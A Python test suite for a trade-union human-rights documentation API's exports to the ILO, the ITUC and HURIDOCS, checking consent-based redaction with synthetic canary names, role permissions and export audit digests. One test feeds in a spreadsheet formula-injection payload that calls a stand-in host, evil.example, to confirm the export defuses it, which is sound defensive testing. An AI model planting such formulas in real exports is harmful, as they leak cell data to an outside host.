"""Exports for the ILO, the ITUC and partners: consent-aware redaction that fails closed, verified norms,
a record of every export, and clear problems for bad selections."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.exports import service as export_service
from tests.conftest import Account
from tests.factories import API, add_testimony, create_case, create_person, involve, ok
from tests.leaks import find

CANARY = "Канарэйка Таямнічая"
CANARY_FORMS = ["Канарэйка", "Канарэйку", "Таямнічая", "Таямнічую", "Kanarejka", "+375290000001"]
CONSENTED = "Аляксандр Згодны"
WITHDRAWN = "Уладзімір Адкліканы"
COMPLAINANT = {
    "name": "Belarusian Congress of Democratic Trade Unions (in exile)",
    "type": "national_directly_interested",
    "permanent_address": "Vilnius, Lithuania",
    "registration_status": "Liquidated by the Supreme Court in July 2022; operating in exile.",
}


@pytest.fixture
def arrests(client: TestClient, coordinator: Account) -> dict:
    """Five arrest cases: one victim consented to the ILO, one never did (the canary), one withdrew."""
    who = coordinator
    canary = create_person(
        client,
        who,
        pseudonym="Victim V-1",
        identity={
            "full_name": CANARY,
            "name_latin": "Kanarejka Tajamnichaja",
            "contacts": [{"kind": "phone", "value": "+375290000001"}],
        },
    )
    consented = create_person(
        client,
        who,
        pseudonym="Victim V-2",
        identity={"full_name": CONSENTED, "address": "Minsk, secret street 1"},
    )
    withdrawn = create_person(client, who, pseudonym="Witness W-3", identity={"full_name": WITHDRAWN})
    ok(
        client.post(
            f"{API}/people/{consented['id']}/consents",
            json={"audience": "ilo", "granted_at": "2026-01-10", "method": "written"},
            headers=who.headers,
        ),
        201,
    )
    c = ok(
        client.post(
            f"{API}/people/{withdrawn['id']}/consents",
            json={"audience": "ilo", "granted_at": "2026-01-10", "method": "written"},
            headers=who.headers,
        ),
        201,
    )
    ok(
        client.post(
            f"{API}/people/{withdrawn['id']}/consents/{c['id']}/withdraw",
            json={"withdrawn_at": "2026-02-01"},
            headers=who.headers,
        )
    )
    kgb = ok(
        client.post(
            f"{API}/organisations", json={"name": "KGB of Belarus", "kind": "state_body"}, headers=who.headers
        ),
        201,
    )
    cases = []
    for n in range(5):
        case = create_case(
            client,
            who,
            title=f"Arrest of union activist no. {n + 1}",
            summary=f"{CANARY} was detained after the union meeting; Канарэйку Таямнічую questioned for hours.",
            narrative="Затрымалі Канарэйку Таямнічую і яшчэ двух членаў прафсаюза.",
            categories=["A.LIB.ARREST"],
            employer="Grodno Azot",
            occurred_from="2022-04-19",
        )
        involve(client, who, case["id"], person_id=canary["id"], role="victim", victim_status="detained")
        involve(client, who, case["id"], person_id=consented["id"], role="victim", victim_status="sentenced")
        involve(client, who, case["id"], person_id=withdrawn["id"], role="witness")
        involve(
            client,
            who,
            case["id"],
            organisation_id=kgb["id"],
            role="perpetrator",
            perpetrator_type="010106000000",
        )
        add_testimony(
            client, who, case["id"], withdrawn["id"], text=f"I saw {CANARY} taken away by officers."
        )
        cases.append(case)
    return {"cases": cases, "canary": canary, "consented": consented, "withdrawn": withdrawn}


def leaks(blob: bytes, *extra: str) -> list[str]:
    return find(blob, [*CANARY_FORMS, WITHDRAWN, "Адкліканы", "secret street", *extra])


class TestIloComplaint:
    def request(self, arrests: dict, **extra) -> dict:
        return {
            "case_ids": [c["id"] for c in arrests["cases"]],
            "complainant": COMPLAINANT,
            "signatory": {"name": "Secretary", "function": "International secretary"},
            "urgency_requested": True,
            "urgency_grounds": ["life_or_personal_freedom"],
            "urgency_justification": "Union leaders remain in detention.",
            "related_cases": ["Case No. 2090"],
            "allegations": [
                {
                    "case_id": arrests["cases"][0]["id"],
                    "national_law_provisions": "Criminal Code Art. 342",
                    "remedies_sought": "Immediate release",
                }
            ],
            **extra,
        }

    def test_docx_cites_the_norms_and_names_only_people_who_consented(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        response = client.post(
            f"{API}/exports/ilo-cfa", json=self.request(arrests), headers=coordinator.headers
        )
        body = ok_bytes(response)
        assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
        assert leaks(body) == []
        text = docx_text(body)
        assert "Director-General" in text
        assert CONSENTED in text
        assert "Victim V-1" in text  # the canary appears by pseudonym
        assert "Chapter 2: Trade union and employers organizations rights and civil liberties" in text
        assert "C87 Arts 2, 3 [unverified: inferred]" in text
        assert "Criminal Code Art. 342" in text and "Immediate release" in text
        assert "human life or personal freedom" in text
        assert int(response.headers["X-Withheld-Count"]) >= 2

    def test_json_mirror_groups_by_chapter_and_reports_what_was_withheld(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        response = client.post(
            f"{API}/exports/ilo-cfa", json=self.request(arrests, format="json"), headers=coordinator.headers
        )
        body = ok_bytes(response)
        assert leaks(body) == []
        complaint = json.loads(body)
        assert [g["cfa_chapter"] for g in complaint["groups"]] == [2]
        assert complaint["groups"][0]["verified"] is True
        allegation = complaint["groups"][0]["allegations"][0]
        assert {v["ref"] for v in allegation["case"]["victims"]} == {"Victim V-1", CONSENTED}
        reasons = {w.get("pseudonym"): w["reason"] for w in complaint["withheld"]}
        assert reasons["Victim V-1"] == "no active consent for ilo"
        assert reasons["Witness W-3"].startswith("consent for ilo was withdrawn on 2026-02-01")
        assert (
            "address"
            in next(w for w in complaint["withheld"] if w.get("pseudonym") == "Victim V-2")["withheld"]
        )

    def test_every_export_is_recorded_with_the_digest_of_the_file(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        response = client.post(
            f"{API}/exports/ilo-cfa", json=self.request(arrests), headers=coordinator.headers
        )
        body = ok_bytes(response)
        record = ok(
            client.get(f"{API}/exports/{response.headers['X-Export-Id']}", headers=coordinator.headers)
        )
        assert record["sha256"] == hashlib.sha256(body).hexdigest() == response.headers["X-Export-SHA256"]
        assert record["audience"] == "ilo"
        assert len(record["selection"]["case_ids"]) == 5

    def test_documenters_cannot_file_ilo_complaints(
        self, client: TestClient, documenter: Account, arrests: dict
    ) -> None:
        response = client.post(
            f"{API}/exports/ilo-cfa", json=self.request(arrests), headers=documenter.headers
        )
        assert response.status_code == 403


class TestItucSurvey:
    def test_csv_has_one_row_per_violation_and_no_names_without_ituc_consent(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        ids = [c["id"] for c in arrests["cases"]]
        response = client.get(
            f"{API}/exports/ituc", params={"format": "csv", "case_id": ids}, headers=coordinator.headers
        )
        body = ok_bytes(response)
        assert leaks(body, CONSENTED) == []  # consent was for the ILO, not the ITUC
        lines = body.decode("utf-8-sig").splitlines()
        assert lines[0].startswith("ituc_group,ituc_group_verified,law_or_practice")
        assert len(lines) == 1 + 5
        assert all(line.startswith("I,") for line in lines[1:])

    def test_xlsx_is_scanned_inside_too(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        response = client.get(f"{API}/exports/ituc", params={"format": "xlsx"}, headers=coordinator.headers)
        body = ok_bytes(response)
        assert leaks(body, CONSENTED) == []
        sheet = load_workbook(io.BytesIO(body))["Group I"]
        assert sheet.max_row == 6

    def test_typed_text_never_becomes_a_spreadsheet_formula(
        self, client: TestClient, coordinator: Account
    ) -> None:
        formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
        case = create_case(
            client, coordinator, title=formula, employer="@SUM(1+1)", categories=["A.LIB.ARREST"]
        )
        # Free text leaves only as a coordinator cleared it: clear the title as typed, for both audiences.
        proposed = [
            clearing
            for audience in ("ituc", "partner")
            for clearing in client.post(
                f"{API}/cases/{case['id']}/clearings",
                json={"audience": audience},
                headers=coordinator.headers,
            ).json()
        ]
        for clearing in proposed:
            approved = client.post(
                f"{API}/clearings/{clearing['id']}/approve",
                headers={**coordinator.headers, "If-Match": f'"v{clearing["version"]}"'},
            )
            assert approved.status_code == 200, approved.text
        params = {"case_id": [case["id"]]}
        csv_body = ok_bytes(
            client.get(f"{API}/exports/ituc", params={**params, "format": "csv"}, headers=coordinator.headers)
        )
        [row] = list(csv.DictReader(io.StringIO(csv_body.decode("utf-8-sig"))))
        assert row["description"].startswith("'=HYPERLINK(")
        assert formula in row["description"]  # defused, not mangled
        xlsx_body = ok_bytes(
            client.get(
                f"{API}/exports/ituc", params={**params, "format": "xlsx"}, headers=coordinator.headers
            )
        )
        sheet = load_workbook(io.BytesIO(xlsx_body))["Group I"]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
        described = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
        assert described and all(cell.data_type == "s" for cell in described)
        uwazi = client.post(
            f"{API}/exports/huridocs",
            json={"case_ids": [case["id"]], "audience": "partner", "format": "uwazi_csv"},
            headers=coordinator.headers,
        )
        [uwazi_row] = list(csv.reader(io.StringIO(ok_bytes(uwazi).decode("utf-8-sig"))))[1:]
        assert uwazi_row[0] == "'" + formula
        assert "'@SUM(1+1)" in uwazi_row

    def test_a_selection_over_the_limit_is_refused_with_advice(
        self, client: TestClient, coordinator: Account, arrests: dict, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setitem(export_service.LIMITS, "ituc", 3)
        response = client.get(f"{API}/exports/ituc", headers=coordinator.headers)
        assert response.status_code == 422
        problem = response.json()
        assert problem["errors"][0]["field"] == "selection"
        assert "at most 3" in problem["detail"] and "Narrow" in problem["detail"]


class TestHuridocsAndSheets:
    @pytest.mark.parametrize("audience", ["partner", "public", "ilo", "ituc"])
    @pytest.mark.parametrize("fmt", ["esf_json", "uwazi_csv"])
    def test_no_name_leaves_without_consent_for_that_audience(
        self, client: TestClient, coordinator: Account, arrests: dict, audience: str, fmt: str
    ) -> None:
        ids = [c["id"] for c in arrests["cases"]]
        response = client.post(
            f"{API}/exports/huridocs",
            json={"case_ids": ids, "audience": audience, "format": fmt},
            headers=coordinator.headers,
        )
        body = ok_bytes(response)
        extra = () if audience == "ilo" else (CONSENTED,)
        assert leaks(body, *extra) == []

    def test_esf_shape_links_victims_acts_perpetrators_and_sources(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        ids = [arrests["cases"][0]["id"]]
        doc = json.loads(
            ok_bytes(
                client.post(f"{API}/exports/huridocs", json={"case_ids": ids}, headers=coordinator.headers)
            )
        )
        event = doc["events"][0]
        assert event["huridocs_index_terms"] == ["030101000000", "030107000000"]
        assert {a["status_at_end_of_act"] for a in event["acts"]} == {"020201000000", "020203000000"}
        assert event["involvements"][0]["type_of_perpetrator"] == "010106000000"
        assert event["information"][0]["type_of_source_material"] == "230920140501"

    def test_internal_exports_still_need_an_internal_consent(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        consented = arrests["consented"]
        ok(
            client.post(
                f"{API}/people/{consented['id']}/consents",
                json={"audience": "internal", "granted_at": "2026-01-10", "method": "written"},
                headers=coordinator.headers,
            ),
            201,
        )
        response = client.get(
            f"{API}/cases/{arrests['cases'][0]['id']}/sheet",
            params={"audience": "internal"},
            headers=coordinator.headers,
        )
        body = ok_bytes(response)
        assert CONSENTED in body.decode()
        assert leaks(body) == []
        assert "script-src" not in response.headers["Content-Security-Policy"]

    def test_researchers_cannot_make_exports_that_carry_identities(
        self, client: TestClient, researcher: Account, arrests: dict
    ) -> None:
        ids = [arrests["cases"][0]["id"]]
        assert (
            client.post(
                f"{API}/exports/preview",
                json={"case_ids": ids, "audience": "internal"},
                headers=researcher.headers,
            ).status_code
            == 403
        )
        assert client.get(f"{API}/cases/{ids[0]}/sheet", headers=researcher.headers).status_code == 403


class TestSelections:
    def test_preview_lists_what_would_be_withheld(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        ids = [c["id"] for c in arrests["cases"]]
        withheld = ok(
            client.post(
                f"{API}/exports/preview",
                json={"case_ids": ids, "audience": "ilo"},
                headers=coordinator.headers,
            )
        )
        assert {w.get("pseudonym") for w in withheld if w["withheld"][0] == "name"} == {
            "Victim V-1",
            "Witness W-3",
        }
        assert leaks(json.dumps(withheld, ensure_ascii=False).encode()) == []

    def test_cases_the_caller_may_not_see_are_not_found(
        self, client: TestClient, documenter2: Account, arrests: dict, coordinator: Account
    ) -> None:
        own = create_case(client, documenter2)
        ids = [own["id"], arrests["cases"][0]["id"]]
        response = client.post(
            f"{API}/exports/preview", json={"case_ids": ids, "audience": "ilo"}, headers=documenter2.headers
        )
        assert response.status_code == 404
        assert response.json()["missing"] == [arrests["cases"][0]["id"]]

    def test_unknown_audience_empty_selection_and_unknown_format_are_422(
        self, client: TestClient, coordinator: Account, arrests: dict
    ) -> None:
        ids = [arrests["cases"][0]["id"]]
        for body in ({"case_ids": ids, "audience": "press"}, {"case_ids": [], "audience": "ilo"}):
            assert (
                client.post(f"{API}/exports/preview", json=body, headers=coordinator.headers).status_code
                == 422
            )
        assert (
            client.get(
                f"{API}/exports/ituc", params={"format": "pdf"}, headers=coordinator.headers
            ).status_code
            == 422
        )


def ok_bytes(response) -> bytes:
    assert response.status_code == 200, response.text
    return response.content


def docx_text(blob: bytes) -> str:
    import re

    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        xml = archive.read("word/document.xml").decode()
    return re.sub(r"<[^>]+>", "", xml.replace("</w:p>", "\n"))
